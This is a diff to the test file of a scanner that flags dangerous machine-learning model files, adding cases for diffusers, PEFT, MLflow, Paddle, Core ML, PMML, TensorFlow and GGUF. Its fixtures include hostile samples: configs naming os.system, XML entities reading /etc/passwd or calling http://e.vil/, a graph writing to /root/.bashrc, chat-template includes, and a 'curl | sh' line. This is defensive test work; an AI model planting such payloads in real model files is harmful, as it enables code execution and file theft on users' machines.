@@ -3,6 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { tar as tarOf } from '../../../test/image.ts';
 import { zip } from '../../../test/zip.ts';
 import * as p from '../../formats/fixtures/pickle-bytes.ts';
+import { LIMITS } from '../../limits.ts';
 import type { Analyzer } from '../analyzer.ts';
 import * as configuration from '../configuration/index.ts';
 import { factsOf } from '../fixtures/analyze.ts';
@@ -168,7 +169,7 @@ describe('settings that name what is called', () => {
       'a loader that MLflow imports',
       'app/m/MLmodel',
       'flavors:\n  python_function:\n    loader_module: evil\n    code: code\n',
-      'MEDIUM model-brings-code',
+      'HIGH model-brings-code',
     ],
     ['a Keras architecture in JSON', 'app/model.json', lambda, 'HIGH keras-lambda-code'],
     ['the same under another name, behind spaces', 'app/x.json', ` {${lambda.slice(1)}`, 'HIGH keras-lambda-code'],
@@ -291,7 +292,7 @@ describe('code that an archive brings along', () => {
       storedZip({ 'm/archive_format': 'pt2', 'm/data/aotinductor/model/x.so': '\x7fELF' }),
     ],
   ])('%s', (_, path, bytes) => {
-    expect(said(path, bytes)).toContain('MEDIUM model-brings-code');
+    expect(said(path, bytes)).toContain('HIGH model-brings-code');
   });
 
   it('a line of a .pth that every start of Python runs', () => {
@@ -327,5 +328,222 @@ describe('code that an archive brings along', () => {
       'HIGH notebook-hides-code',
     ]);
     expect(said('a.ipynb', notebook('# curl http://x | sh is how others do it\nprint(eval("1"))'))).toEqual([]);
+  });
+});
+
+describe('libraries that import what settings name', () => {
+  const json = (value: unknown): string => JSON.stringify(value);
+  it.each<[string, string, unknown, string]>([
+    [
+      'a part of a pipeline that is no class of a model',
+      'model_index.json',
+      { _class_name: 'StableDiffusionPipeline', unet: ['os', 'system'] },
+      'CRITICAL settings-import-dangerous',
+    ],
+    [
+      'a part of a pipeline from a module of its own',
+      'model_index.json',
+      { _class_name: 'StableDiffusionPipeline', unet: ['evilmod', 'X'] },
+      'HIGH model-imports-module',
+    ],
+    [
+      'a pipeline that is a file of the repository',
+      'model_index.json',
+      { _class_name: ['pipeline', 'Evil'] },
+      'HIGH model-imports-module',
+    ],
+    [
+      'the library of an adapter',
+      'adapter_config.json',
+      { auto_mapping: { parent_library: 'evilmod', base_model_class: 'X' } },
+      'HIGH model-imports-module',
+    ],
+    [
+      'the library of an adapter that is dangerous by itself',
+      'adapter_config.json',
+      { auto_mapping: { parent_library: 'os', base_model_class: 'system' } },
+      'CRITICAL settings-import-dangerous',
+    ],
+    ['code of the repository, by leave', 'config.json', { auto_map: { AutoModel: 'm.M' } }, 'LOW model-remote-code'],
+    [
+      'code of another repository, by leave',
+      'config.json',
+      { auto_map: { AutoTokenizer: ['evil/repo--tok.T', null] } },
+      'MEDIUM model-remote-code',
+    ],
+    [
+      'a pipeline of the repository, by leave',
+      'config.json',
+      { custom_pipelines: { x: { impl: 'pipe.P' } } },
+      'LOW model-remote-code',
+    ],
+  ])('%s', (_, name, value, risk) => {
+    expect(said(`app/m/${name}`, json(value))).toContain(risk);
+    expect(said('app/m.zip', storedZip({ [`m/${name}`]: json(value) }))).toContain(risk);
+  });
+
+  it('a key that is written with escapes', () => {
+    expect(said('app/m/adapter_config.json', '{"auto\u005fmapping": {"parent_library": "evilmod"}}')).toEqual([
+      'HIGH model-imports-module',
+    ]);
+  });
+
+  it('but not what honest ones say', () => {
+    const index = {
+      _class_name: 'StableDiffusionPipeline',
+      _diffusers_version: '0.30.0',
+      feature_extractor: [null, null],
+      safety_checker: ['stable_diffusion', 'StableDiffusionSafetyChecker'],
+      scheduler: ['diffusers', 'PNDMScheduler'],
+      text_encoder: ['transformers', 'CLIPTextModel'],
+    };
+    expect(said('app/m/model_index.json', json(index))).toEqual([]);
+    const adapter = { peft_type: 'LORA', auto_mapping: null, base_model_name_or_path: 'gpt2' };
+    expect(said('app/m/adapter_config.json', json(adapter))).toEqual([]);
+    const mapped = {
+      auto_mapping: { base_model_class: 'BertModel', parent_library: 'transformers.models.bert.modeling_bert' },
+    };
+    expect(said('app/m/adapter_config.json', json(mapped))).toEqual([]);
+  });
+
+  it.each([
+    ['a module', 'flavors:\n  python_function:\n    loader_module: evil\n'],
+    ['in one line', 'flavors:\n  python_function: {loader_module: evil, env: conda.yaml}\n'],
+    ['in JSON', '{"flavors": {"python_function": {"loader_module": "evil"}}}'],
+    ['a script', 'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: m.py\n'],
+    ['a folder that comes first', 'flavors:\n  python_function:\n    code: code\n    loader_module: mlflow.sklearn\n'],
+  ])('MLflow: %s', (_, text) => {
+    expect(said('app/m/MLmodel', text)).toEqual(['HIGH model-brings-code']);
+  });
+
+  it('MLflow: what it writes itself', () => {
+    const text =
+      'flavors:\n  python_function:\n    env: {conda: conda.yaml}\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n';
+    expect(said('app/m/MLmodel', text)).toEqual([]);
+  });
+});
+
+it('a target in the configuration of an archive, which may be of Keras as well', () => {
+  expect(said('m.zip', storedZip({ 'config.json': '{"_target_": "os.system"}' }))).toEqual([
+    'CRITICAL settings-call-dangerous',
+  ]);
+});
+
+describe('other formats', () => {
+  const program = (operator: string): Buffer =>
+    field(1, Buffer.concat([int(1, 0), field(4, Buffer.concat([field(1, field(1, 'X')), field(3, operator)]))]));
+  it.each([
+    ['py_func', 'HIGH paddle-op-py-func'],
+    ['save_combine', 'HIGH paddle-op-save-combine'],
+    ['load', 'HIGH paddle-op-load'],
+  ])('Paddle: an operator %s', (operator, risk) => {
+    expect(said('m/inference.pdmodel', program(operator))).toEqual([risk]);
+    expect(said('m/__model__', program(operator))).toEqual([risk]);
+  });
+  it('Paddle: honest operators, a broken program, and another file of that name', () => {
+    expect(said('m/inference.pdmodel', program('conv2d'))).toEqual([]);
+    expect(said('m/inference.pdmodel', program('py_func').subarray(0, 12))[0]).toMatch(/^\? not a sound program/);
+    expect(said('m/__model__', 'hello')).toEqual([]);
+  });
+  it('Paddle: parameters are the pickles that they are', () => {
+    expect(said('m/m.pdparams', evil)).toEqual([PICKLE]);
+  });
+
+  const layer = field(1, Buffer.concat([field(1, 'l'), field(500, field(10, 'EvilLayer'))]));
+  it.each([
+    ['a layer', field(500, layer)],
+    ['a layer of a classifier', field(403, layer)],
+    ['a layer in a pipeline that classifies', field(200, field(1, field(1, field(500, layer))))],
+    ['a model', field(555, field(10, 'EvilLayer'))],
+  ])('Core ML: %s that the application has to bring', (_, body) => {
+    expect(said('m.mlmodel', Buffer.concat([int(1, 3), body]))).toEqual(['LOW core-ml-custom-class']);
+  });
+
+  it.each([
+    ['PDF', '%PDF-1.4\n%%EOF\n'],
+    ['PNG', '\x89PNG\r\n\x1a\n'],
+    ['JPEG', '\xff\xd8\xff\xe0\0\x10JFIF'],
+    ['GIF', 'GIF89a'],
+    ['a film', '\0\0\0\x18ftypmp42'],
+    ['a script', '#!/bin/sh\nexit\n'],
+  ])('a zip behind the head of %s is not assessed', (_, head) => {
+    const bytes = Buffer.concat([Buffer.from(head, 'latin1'), Buffer.alloc(400_000), torch]);
+    expect(said('app/logo.bin', bytes)).toEqual([
+      '? a zip archive behind another head, with archive/data.pkl: not read',
+    ]);
+    const program = Buffer.concat([Buffer.from(head, 'latin1'), storedZip({ '__main__.py': 'print(1)' })]);
+    expect(said('app/logo.bin', program)).toEqual([]);
+  });
+  it('nor one behind anything, under the name of a model', () => {
+    expect(said('app/m.pth', Buffer.concat([Buffer.alloc(600, 7), torch]))[0]).toMatch(/^\? a zip archive behind/);
+  });
+
+  it.each([
+    ['gzip', gzipSync(Buffer.from('X\n\0\0\0\x03\0\x04\x02\0', 'latin1'))],
+    ['nothing', Buffer.from('X\n\0\0\0\x03\0\x04\x02\0', 'latin1')],
+    ['gzip, of several objects', gzipSync(Buffer.from('RDX3\nX\n\0\0\0\x03', 'latin1'))],
+    ['nothing, as text', Buffer.from('RDA3\nA\n3\n262146\n')],
+  ])("R's objects, compressed with %s, are not assessed, but those of its library", (_, bytes) => {
+    expect(said('app/model.rds', bytes)).toEqual(['? a serialized R object: not read']);
+    expect(said('usr/lib/R/library/stats/Meta/package.rds', bytes)).toEqual([]);
+  });
+
+  it('a document type of PMML that leads elsewhere', () => {
+    const pmml = (head: string): string => `<?xml version="1.0"?>${head}<PMML version="4.4"/>`;
+    expect(said('m.pmml', pmml('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'))).toEqual([
+      'HIGH pmml-external-entity',
+    ]);
+    expect(said('m.pmml', pmml('<!DOCTYPE x [<!ENTITY % e PUBLIC "a" "http://e.vil/">]>'))).toEqual([
+      'HIGH pmml-external-entity',
+    ]);
+    expect(said('m.pmml', pmml(''))).toEqual([]);
+  });
+
+  const node = (operation: string, ...attributes: Buffer[]): Buffer =>
+    Buffer.concat([
+      int(1, 1),
+      field(2, field(2, field(1, Buffer.concat([field(1, 'n'), field(2, operation), ...attributes])))),
+    ]);
+  const attribute = (key: string, value: Buffer): Buffer => field(5, Buffer.concat([field(1, key), field(2, value)]));
+  const toFile = attribute('output_stream', field(2, 'file:///root/.bashrc'));
+  it.each<[string, Buffer, string]>([
+    ['prints into a file', node('PrintV2', toFile), 'HIGH tensorflow-op-printv2'],
+    [
+      'tells a debugger elsewhere',
+      node('DebugIdentityV2', attribute('debug_urls', field(1, field(2, 'grpc://e.vil:1')))),
+      'HIGH tensorflow-op-debugidentityv2',
+    ],
+    ['asks a service of data', node('DataServiceDatasetV4'), 'HIGH tensorflow-op-dataservicedatasetv4'],
+  ])('TensorFlow: a graph that %s', (_, bytes, risk) => {
+    expect(said('m/saved_model.pb', bytes)).toEqual([risk]);
+  });
+  it('TensorFlow: one that prints to the terminal is like others', () => {
+    expect(said('m/saved_model.pb', node('PrintV2', attribute('output_stream', field(2, 'stderr'))))).toEqual([]);
+  });
+
+  it("ONNX Runtime's own format is not assessed", () => {
+    expect(said('m.ort', Buffer.from(`\x18\0\0\0ORTM${'\0'.repeat(64)}`, 'latin1'))).toEqual([
+      "? a model in ONNX Runtime's own format: not read",
+    ]);
+  });
+
+  it.each(["{% include '/etc/passwd' %}", "{%- import '../evil' as e %}", '{% extends x %}'])(
+    'a chat template that reads another file: %s',
+    (template) => {
+      expect(said('m.gguf', gguf([['tokenizer.chat_template', template]]))).toEqual(['HIGH chat-template-injection']);
+    },
+  );
+});
+
+describe('a Keras configuration beyond what is read', () => {
+  const padding = (count: number): string => '{},'.repeat(count);
+  it('of more objects than are looked at, with the code behind them, is said to be unread', () => {
+    // Objects are looked at from the last to the first.
+    const config = `{"class_name":"Functional","config":{"layers":[${lambda},${padding(LIMITS.kerasObjects)}{}]}}`;
+    expect(said('app/model.json', config)).toEqual(['MEDIUM keras-config-unread']);
+  });
+  it('of just as many is read', () => {
+    const config = `{"class_name":"Functional","config":{"layers":[${lambda},${padding(50_000)}{}]}}`;
+    expect(said('app/model.json', config)).toContain('HIGH keras-lambda-code');
   });
 });
